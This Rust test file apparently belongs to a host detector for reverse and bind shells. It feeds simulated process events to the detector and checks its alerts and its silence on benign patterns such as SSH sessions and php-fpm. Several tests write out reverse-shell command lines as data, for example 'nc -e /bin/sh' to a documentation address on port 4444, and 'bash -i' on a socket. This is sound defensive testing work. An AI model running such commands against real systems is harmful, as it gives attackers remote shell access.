//! Shells over the network, and what looks like them.

use super::{super::scene::*, *};
use crate::{
    event::{Descriptor, Tgid},
    process::lineage::Lineage,
};

const FAR: &str = "198.51.100.7:4444";

fn scene() -> Scene {
    let mut scene = Scene::new(ReverseShell::new());
    scene
        .runs(700, 1, "/usr/sbin/sshd")
        .runs_as(800, 700, 1000, "/usr/bin/bash");
    scene
}

fn on(stream: Descriptor) -> impl FnOnce(&mut Exec) {
    move |exec| exec.stdio = [stream; 3]
}

#[test]
fn a_shell_that_connected_before_it_execs() {
    let mut scene = scene();
    scene.forks(800, 801);
    assert!(scene.connects(801, FAR).is_empty());
    let alerts = scene.execs(
        801,
        "/usr/bin/bash",
        &["bash", "-i"],
        on(Descriptor::Socket),
    );
    assert_eq!(ids(&alerts), ["reverse-shell"]);
    assert_eq!(alerts[0].evidence.len(), 2);
    assert!(
        alerts[0].reason.contains("to 198.51.100.7:4444"),
        "{}",
        alerts[0].reason
    );
    // What is typed there is not found again.
    assert!(
        scene
            .spawns(
                801,
                802,
                "/usr/bin/python3",
                &["python3", "-c", "1"],
                on(Descriptor::Socket)
            )
            .is_empty()
    );
}

#[test]
fn an_interpreter_hands_its_connection_to_a_shell() {
    let mut scene = scene();
    scene.spawns(
        800,
        801,
        "/usr/bin/python3.13",
        &["python3", "-c", "..."],
        |_| {},
    );
    scene.connects(801, FAR);
    let alerts = scene.spawns(
        801,
        802,
        "/bin/sh",
        &["/bin/sh", "-c", "sh"],
        on(Descriptor::Socket),
    );
    assert_eq!(ids(&alerts), ["reverse-shell"]);
}

#[test]
fn a_shell_in_a_job_with_a_relay_in_either_order() {
    for shell_first in [true, false] {
        let mut scene = scene();
        let mut together = Vec::new();
        let group = |exec: &mut Exec| exec.process_group = Tgid(801);
        let shell = |scene: &mut Scene| {
            scene.spawns(800, 802, "/bin/sh", &["sh", "-i"], |exec| {
                group(exec);
                exec.stdio = [Descriptor::Pipe; 3];
            })
        };
        if shell_first {
            together.extend(shell(&mut scene));
        }
        scene.spawns(
            800,
            803,
            "/usr/bin/nc.openbsd",
            &["nc", "198.51.100.7", "4444"],
            group,
        );
        together.extend(scene.connects(803, FAR));
        if !shell_first {
            together.extend(shell(&mut scene));
        }
        assert_eq!(ids(&together), ["reverse-shell"], "{shell_first}");
        assert_eq!(together[0].evidence.len(), 2);
    }
}

#[test]
fn a_shell_on_pipes_of_a_connected_program_that_forked_twice() {
    let mut scene = scene();
    scene.spawns(800, 801, "/usr/bin/python3", &["python3", "x.py"], |_| {});
    scene.connects(801, FAR);
    scene.forks(801, 802);
    scene.forks(802, 803);
    scene.exits(802, 0);
    let alerts = scene.execs(803, "/bin/sh", &["sh"], |exec| {
        exec.parent = process_id(1);
        exec.stdio = [Descriptor::Pipe; 3];
    });
    assert_eq!(ids(&alerts), ["reverse-shell"]);
    assert!(alerts[0].reason.contains("python3"), "{}", alerts[0].reason);
}

#[test]
fn a_shell_on_pipes_of_a_connected_parent() {
    let mut scene = scene();
    scene.spawns(
        800,
        801,
        "/usr/bin/ncat",
        &["ncat", "198.51.100.7", "4444"],
        |_| {},
    );
    scene.connects(801, FAR);
    let alerts = scene.spawns(801, 802, "/bin/sh", &["sh"], on(Descriptor::Pipe));
    assert_eq!(ids(&alerts), ["reverse-shell"]);
}

#[test]
fn a_shell_on_a_terminal_of_a_connected_interpreter() {
    let mut scene = scene();
    scene.spawns(800, 801, "/usr/bin/python3", &["python3", "a.py"], |_| {});
    scene.connects(801, FAR);
    let alerts = scene.spawns(801, 802, "/bin/bash", &["bash"], |exec| {
        exec.tty = Some(terminal(4));
        exec.session_id = Tgid(802);
    });
    assert_eq!(ids(&alerts), ["reverse-shell"]);
}

#[test]
fn programs_of_a_shell_that_is_connected_itself() {
    let mut scene = scene();
    scene.connects(800, FAR);
    let alerts = scene.spawns(800, 801, "/usr/bin/id", &["id"], |exec| {
        exec.stdio = [Descriptor::Pipe, Descriptor::Socket, Descriptor::Socket];
    });
    assert_eq!(ids(&alerts), ["reverse-shell"]);
}

#[test]
fn a_relay_with_a_shell_and_a_shell_behind_a_port() {
    let mut scene = scene();
    let argv = ["nc", "-e", "/bin/sh", "198.51.100.7", "4444"];
    let alerts = scene.spawns(800, 801, "/usr/bin/nc.traditional", &argv, |_| {});
    assert_eq!(ids(&alerts), ["reverse-shell"]);
    scene.spawns(800, 810, "/usr/bin/perl", &["perl", "x.pl"], |_| {});
    scene.accepts(810, FAR);
    let alerts = scene.spawns(810, 811, "/bin/sh", &["sh", "-i"], on(Descriptor::Socket));
    assert_eq!(ids(&alerts), ["bind-shell"]);
}

#[test]
fn a_shell_on_sockets_of_which_nothing_is_known() {
    let mut scene = scene();
    scene.runs(900, 1, "/tmp/.x");
    let alerts = scene.spawns(900, 901, "/bin/sh", &["sh"], on(Descriptor::Socket));
    assert_eq!(ids(&alerts), ["shell-on-socket"]);
}

#[test]
fn logins_services_and_pairs_of_sockets_are_normal() {
    let mut scene = scene();
    // Commands over SSH without a terminal.
    scene.accepts(700, FAR);
    assert!(
        scene
            .spawns(700, 701, "/bin/bash", &["bash"], on(Descriptor::Socket))
            .is_empty()
    );
    // A unit's script on a socket, and one whose output is the journal's socket.
    scene.accepts(1, FAR);
    assert!(
        scene
            .spawns(
                1,
                702,
                "/bin/sh",
                &["sh", "/usr/lib/x"],
                on(Descriptor::Socket)
            )
            .is_empty()
    );
    let journal = |exec: &mut Exec| {
        exec.stdio = [Descriptor::Other, Descriptor::Socket, Descriptor::Socket];
    };
    assert!(
        scene
            .spawns(1, 703, "/bin/sh", &["sh", "-c", "date"], journal)
            .is_empty()
    );
    // libuv's children, of a process that is connected.
    scene.runs_as(710, 800, 1000, "/usr/bin/node");
    scene.connects(710, "192.0.2.1:443");
    let argv = ["sh", "-c", "node postinstall.js"];
    assert!(
        scene
            .spawns(710, 711, "/bin/sh", &argv, on(Descriptor::Socket))
            .is_empty()
    );
}

#[test]
fn what_php_and_downloads_do_is_normal() {
    let mut scene = scene();
    // FPM's standard input is the socket that it listens on.
    scene.runs(720, 1, "/usr/sbin/php-fpm8.3");
    scene.connects(720, "10.0.0.9:3306");
    let sendmail = |exec: &mut Exec| {
        exec.stdio = [Descriptor::Socket, Descriptor::Pipe, Descriptor::Other];
    };
    let argv = ["sh", "-c", "/usr/sbin/sendmail -t"];
    assert!(
        scene
            .spawns(720, 721, "/bin/sh", &argv, sendmail)
            .is_empty()
    );
    // curl | sh
    scene.spawns(
        800,
        730,
        "/usr/bin/curl",
        &["curl", "https://a.example"],
        |_| {},
    );
    assert!(scene.connects(730, "192.0.2.1:443").is_empty());
    assert!(
        scene
            .spawns(800, 731, "/bin/sh", &["sh"], on(Descriptor::Pipe))
            .is_empty()
    );
    // A person's shell in a terminal emulator, and a script that waits for a port.
    scene.spawns(800, 740, "/usr/bin/xterm", &["xterm"], |_| {});
    scene.connects(740, "127.0.0.1:6000");
    let on_terminal = |exec: &mut Exec| {
        exec.tty = Some(terminal(4));
        exec.session_id = Tgid(741);
    };
    assert!(
        scene
            .spawns(740, 741, "/bin/bash", &["bash"], on_terminal)
            .is_empty()
    );
    scene.spawns(800, 750, "/bin/bash", &["bash", "wait-for-it.sh"], |_| {});
    assert!(scene.connects(750, "127.0.0.1:5432").is_empty());
    assert!(
        scene
            .spawns(750, 751, "/bin/sleep", &["sleep", "1"], |_| {})
            .is_empty()
    );
}

#[test]
fn a_connection_that_ended_or_is_old_does_not_count() {
    let mut scene = scene();
    scene.spawns(800, 801, "/usr/bin/python3", &["python3", "x.py"], |_| {});
    scene.connects(801, FAR);
    scene.closes(801, FAR, 10, 10);
    assert!(
        scene
            .spawns(
                801,
                802,
                "/bin/sh",
                &["sh", "-c", "id"],
                on(Descriptor::Socket)
            )
            .is_empty()
    );
    scene.connects(801, FAR);
    scene.wait(std::time::Duration::from_secs(4_000));
    assert!(
        scene
            .spawns(
                801,
                803,
                "/bin/sh",
                &["sh", "-c", "id"],
                on(Descriptor::Socket)
            )
            .is_empty()
    );
}

#[test]
fn copes_with_anything() {
    withstands(ReverseShell::new);
}

#[test]
fn many_processes_take_the_room_of_the_limits() {
    let mut scene = scene();
    let mut detector = ReverseShell::new();
    let image = scene.process(800).image.clone();
    for tgid in 0..30_000 {
        let process = Process {
            image: image.clone(),
            parent: Some(process_id(tgid + 1)),
            lineage: Lineage::default(),
            ..Process::unknown(crate::event::arbitrary::boot(), process_id(tgid))
        };
        let actor = crate::event::Actor {
            id: process.id,
            tid: crate::event::Tid(tgid),
            uid: 0,
            cgroup: HOST,
            credentials_digest: 0,
            io_worker: false,
        };
        let event = scene.event(Some(actor), Body::Connect(connection(FAR)));
        let mut alerts = Vec::new();
        let observed = Observed {
            event: &event,
            late: false,
            process: Some(&process),
            parent: None,
            other: None,
            about: None,
            surroundings: crate::enrich::Surroundings::default(),
        };
        detector.inspect(&observed, &mut alerts);
        detector.found.insert(process.id, ());
    }
    assert_eq!(
        detector.connections.len(),
        super::super::connections::PROCESSES_MAX
    );
    assert_eq!(detector.found.len(), FOUND_MAX);
    let mut total = 0;
    detector.limits(&mut |_, count| total += count);
    let kept = super::super::connections::PROCESSES_MAX + FOUND_MAX;
    assert_eq!(total, 2 * 30_000 - kept as u64);
}
